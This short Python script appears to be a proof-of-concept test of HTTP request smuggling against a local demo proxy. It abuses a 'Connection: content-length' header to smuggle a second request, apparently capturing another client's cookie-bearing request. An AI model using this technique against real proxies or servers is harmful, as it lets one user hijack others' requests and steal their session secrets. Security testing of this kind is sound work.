from h import *
a=demo('a')
port,p=proxy([('a',a)])
A=conn(port)
body=b'POST /sink HTTP/1.1\r\nHost: h\r\nContent-Length: 40\r\n\r\n'
A.sendall(b'POST /x HTTP/1.1\r\nHost: h\r\nConnection: content-length\r\nContent-Length: %d\r\n\r\n'%len(body)+body)
print('A:', recvall(A,0.8))
B=conn(port)  # a different client
B.sendall(b'GET /my-own-request HTTP/1.1\r\nHost: h\r\nCookie: secret=B\r\n\r\n')
print('B:', recvall(B,2))
